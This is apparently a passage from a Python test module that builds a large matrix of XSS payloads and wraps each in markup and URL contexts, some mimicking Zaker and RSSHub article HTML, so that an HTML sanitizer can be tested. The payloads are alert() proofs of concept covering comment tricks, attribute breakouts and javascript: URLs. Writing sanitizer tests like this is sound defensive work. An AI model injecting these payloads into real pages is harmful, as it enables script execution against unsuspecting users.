COMMENT_VECTORS: list[tuple[str, str]] = [
    ("comment-hidden-img", "<!--<img src=x onerror=alert(1)>-->"),
    ("comment-between", "<!-- --><img src=x onerror=alert(1)><!-- -->"),
    ("comment-abrupt-gt", "<!--><script>alert(1)</script>-->"),
    ("comment-abrupt-dash-gt", "<!---><script>alert(1)</script>-->"),
    ("comment-bang-end", "<!-- --!><script>alert(1)</script>-->"),
    ("comment-nested", "<!-- <!-- --><script>alert(1)</script> -->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-downlevel-revealed", "<![if !IE]><img src=x onerror=alert(1)><![endif]>"),
    ("comment-cdata-html", "<![CDATA[><script>alert(1)</script>]]>"),
    ("comment-cdata-img", "<p><![CDATA[<img src=x onerror=alert(1)>]]></p>"),
    ("comment-pi", '<? foo="><script>alert(1)</script>">'),
    (
        "comment-xml-stylesheet",
        '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?><p>x</p>',
    ),
    ("comment-bogus-end-tag", '</ foo="><script>alert(1)</script>">'),
    ("comment-bogus-bang", '<!a="<img src=x onerror=alert(1)>">'),
    ("comment-attr-payload", '<p>x</p><!-- <p title="--><script>alert(1)</script>"> -->'),
    ("comment-doctype", "<!DOCTYPE html><img src=x onerror=alert(1)>"),
    ("comment-doctype-entity", '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]><p>&e;</p>'),
]

BREAKOUT_VECTORS: list[tuple[str, str]] = [
    # code[class] is the one class kept (language-NAME): its value must not carry anything else
    ("break-code-class-quote", "<code class='language-py\" onmouseover=\"alert(1)'>x</code>"),
    ("break-code-class-tokens", '<code class="language-py onclick=alert(1) x">x</code>'),
    (
        "break-code-class-gt",
        '<pre><code class="language-js&quot;&gt;&lt;script&gt;">x</code></pre>',
    ),
    ("break-p-language-class", '<p class="language-py">x</p>'),
    ("break-alt-script", f'<img src="{SAFE_IMG}" alt="x"><script>alert(1)</script>">'),
    ("break-p-title-script", '<p title="x"><script>alert(1)</script>">t</p>'),
    ("break-unquoted-onerror", f"<img src={SAFE_IMG} alt=x onerror=alert(1)>"),
    ("break-single-quotes", f"<img src='{SAFE_IMG}' alt='x' onerror='alert(1)'>"),
    ("break-backtick-src", f"<img src=`{SAFE_IMG}` onerror=alert(1)>"),
    ("break-backtick-alt", f'<img src="{SAFE_IMG}" alt=`x` onerror=`alert(1)`>'),
    ("break-double-quote", '<a href="http://a.example/"" onclick="alert(1)">x</a>'),
    ("break-unquoted-href", "<a href=http://a.example/ onclick=alert(1)>x</a>"),
    ("break-escaped-in-href", '<a href="http://a.example/?q=\\"><script>alert(1)</script>">x</a>'),
    ("break-adjacent-attrs", f'<img src="{SAFE_IMG}"alt="x"onerror="alert(1)">'),
    ("break-sq-title", '<a href="http://a.example/" title=\'"><script>alert(1)</script>\'>x</a>'),
    ("break-empty-quotes", '<img """><script>alert(1)</script>">'),
    ("break-equals-name", '<a href="http://a.example/" =onclick=alert(1)>x</a>'),
    ("break-trailing-slashes", "<img src=x:x onerror=alert(1)///>"),
    ("break-href-quote-in-value", "<a href='http://a.example/?\"onmouseover=\"alert(1)'>x</a>"),
    ("break-lt-in-unquoted", "<a href=http://a.example/<script>alert(1)</script>>x</a>"),
    (
        "break-entity-gt-in-href",
        '<a href="http://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    ),
    ("break-unicode-quote", "<img src=x alt=“x” onerror=alert(1)>"),
]

ZAKER_VECTORS: list[tuple[str, str]] = [
    (
        "zaker-img-box-onclick-script",
        f'<div class="img_box" id="id_imagebox_0" onclick="alert(1)"><div class="content_img_div perview_img_div"><img class="lazy" data-original="{SAFE_IMG}" src="{PROXY}{SAFE_IMG}" onerror="alert(2)"><script>alert(3)</script></div></div>',
    ),
    (
        "zaker-img-box-gif-js",
        f'<div class="img_box"><img class="lazy" data-gif-url="javascript:alert(1)" data-original="{SAFE_IMG}"></div>',
    ),
    (
        "zaker-img-box-proxy-data-original",
        f'<div class="img_box"><img class="lazy" data-original="{PROXY}javascript:alert(1)" src="{PROXY}{PROXY}javascript:alert(2)"></div>',
    ),
    (
        "zaker-caption-script",
        f'<div class="img_box"><img class="lazy" data-original="{SAFE_IMG}"></div>▲ 图<script>alert(1)</script>片',
    ),
    (
        "zaker-video-container-poster",
        '<div class="video_container"><video poster="javascript:alert(1)" onplay="alert(2)"><source src="javascript:alert(3)"><source src="http://h/v.mp4" onerror="alert(4)"></video></div>',
    ),
    (
        "zaker-zkinfo-breakout",
        '<div class="zk_upvideo" data-zkinfo="x"><img src=x onerror=alert(1)>"></div>',
    ),
    (
        "zaker-zkinfo-json-array",
        f'<div class="zk_upvideo" data-zkinfo="{quote(json.dumps([JS]))}">v<script>alert(1)</script></div>',
    ),
    (
        "zaker-zkinfo-nested-object",
        f'<div class="zk_upvideo" data-zkinfo="{quote(json.dumps({"videoUrl": {"href": JS}, "imgUrl": [JS]}))}"></div>',
    ),
    (
        "zaker-recommend-bottom",
        '<div id="recommend_bottom"><script>alert(1)</script></div><div id="article_bottom"><img src=x onerror=alert(2)></div>',
    ),
    ("zaker-advise-link", '<p class="advise"><a href="javascript:alert(1)">【纠错】</a></p>'),
    (
        "zaker-qq-iframe-js",
        '<iframe class="video_iframe" src="javascript:alert(1)" data-src="javascript:alert(2)"></iframe>',
    ),
    ("zaker-qq-iframe-proxy-js", f'<iframe src="{PROXY}javascript:alert(1)"></iframe>'),
    (
        "zaker-video-label-spoof",
        '<p><a href="javascript:alert(1)">视频：javascript:alert(1)</a></p>',
    ),
    (
        "zaker-redirect-link-proxy-js",
        f'<p><a href="{REDIRECTOR}{_b64(PROXY + JS)}">阅读原文</a></p>',
    ),
    (
        "zaker-picture-source",
        f'<picture><source srcset="javascript:alert(1)"><img src="{SAFE_IMG}"></picture>',
    ),
    (
        "zaker-deep-nesting-script",
        "<div>" * 80 + "<script>alert(1)</script><img src=x onerror=alert(1)>" + "</div>" * 80,
    ),
]

HTML_VECTORS: list[tuple[str, str]] = [
    *SCRIPT_VECTORS,
    *HANDLER_VECTORS,
    *URL_ATTR_VECTORS,
    *STYLE_VECTORS,
    *MXSS_VECTORS,
    *COMMENT_VECTORS,
    *BREAKOUT_VECTORS,
    *ZAKER_VECTORS,
]

URL_VECTORS: list[tuple[str, str]] = [(f"url-{name}", payload) for name, payload in URL_PAYLOADS]

VECTORS: list[tuple[str, str]] = [
    *HTML_VECTORS,
    *((vid, f'<a href="{payload}">link</a>') for vid, payload in URL_VECTORS),
]

# --------------------------------------------------------------------------------------------
# Contexts
# --------------------------------------------------------------------------------------------

_SAFE_ZKINFO = _zkinfo(SAFE_VIDEO, SAFE_IMG)


def _img_box(vector: str) -> str:
    return (
        '<div class="img_box" id="id_imagebox_0" onclick><div class="content_img_div perview_img_div">'
        f'{vector}<img class="lazy" data-original="{SAFE_IMG}" src="{PROXY}{SAFE_IMG}"></div></div>'
    )


MARKUP_CONTEXTS: dict[str, Callable[[str], str]] = {
    "bare": lambda v: v,
    "img_box": _img_box,
    "link": lambda v: f'<p><a href="http://example.com/">{v}</a></p>',
    "zk_upvideo": lambda v: (
        f'<div class="zaker_div"><div class="zk_upvideo" data-zkinfo="{_SAFE_ZKINFO}">{v}</div></div>'
    ),
    "video_container": lambda v: (
        f'<div class="video_container"><video>{v}<source src="{SAFE_VIDEO}"></video></div>'
    ),
    "rsshub": lambda v: f"<div><p>导语：</p><p>{v}</p><p>正文。</p></div>",
}


def _lazy_img_box(attrs: str) -> str:
    return (
        '<div class="img_box" id="id_imagebox_0" onclick><div class="content_img_div perview_img_div">'
        f'<img class="lazy opacity_0 " id="img_0" {attrs} data-height="422" data-width="750" '
        'referrerpolicy="no-referrer"></div></div>'
    )


URL_CONTEXTS: dict[str, Callable[[str], str]] = {
    "href": lambda u: f'<p><a href="{u}">link</a></p>',
    "img_src": lambda u: f'<p>x<img src="{u}" alt="a">y</p>',
    "data_original": lambda u: _lazy_img_box(f'data-original="{u}" src="{PROXY}{u}"'),
    "data_gif_url": lambda u: _lazy_img_box(f'data-gif-url="{u}" data-original="{u}"'),
    "data_gif_url_safe_still": lambda u: _lazy_img_box(
        f'data-gif-url="{u}" data-original="{SAFE_IMG}"'
    ),
    "data_gif_url_bad_still": lambda u: _lazy_img_box(
        f'data-gif-url="{SAFE_IMG}.gif" data-original="{u}"'
    ),
    "data_src": lambda u: (
        f'<p><img class="lazy" data-src="{u}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></p>'
    ),
    "srcset": lambda u: f'<p><img srcset="{u} 2x, {SAFE_IMG} 1x"></p>',
    "poster": lambda u: (
        f'<div class="video_container"><video poster="{u}"><source src="{SAFE_VIDEO}"></video></div>'
    ),
    "video_src": lambda u: f'<video src="{u}" poster="{u}" controls></video>',
    "source_src": lambda u: f'<video><source src="{u}" type="video/mp4"></video>',
    "iframe_src": lambda u: f'<iframe src="{u}" frameborder="0"></iframe>',
    "zkinfo_videoUrl": lambda u: (
        f'<div class="zaker_div"><div class="zk_upvideo" data-zkinfo="{_zkinfo(u, SAFE_IMG)}"></div></div>'
    ),
    "zkinfo_imgUrl": lambda u: (
        f'<div class="zaker_div"><div class="zk_upvideo" data-zkinfo="{_zkinfo(SAFE_VIDEO, u)}"></div></div>'
    ),
    "zkinfo_entities": lambda u: (
        f'<div class="zaker_div"><div class="zk_upvideo" data-zkinfo="{_zkinfo_entities(u, u)}"></div></div>'
    ),
}

CONTEXTS: dict[str, Callable[[str], str]] = {**MARKUP_CONTEXTS, **URL_CONTEXTS}


def all_cases() -> list[tuple[str, str]]:
    """``(case_id, html)``: every vector in every markup context, every URL payload in every
    URL-attribute context.  ``case_id`` is ``"<context>:<vector_id>"``."""
    cases = [
        (f"{context}:{vid}", wrap(html))
        for context, wrap in MARKUP_CONTEXTS.items()
        for vid, html in VECTORS
    ]
    cases += [
        (f"{context}:{vid}", wrap(payload))
        for context, wrap in URL_CONTEXTS.items()
        for vid, payload in URL_VECTORS
    ]
    return cases


def case_parts(case_id: str) -> tuple[str, str]:
    """``"context:vector_id"`` → ``(context, vector_id)``."""
    context, _, vid = case_id.partition(":")
    return context, vid
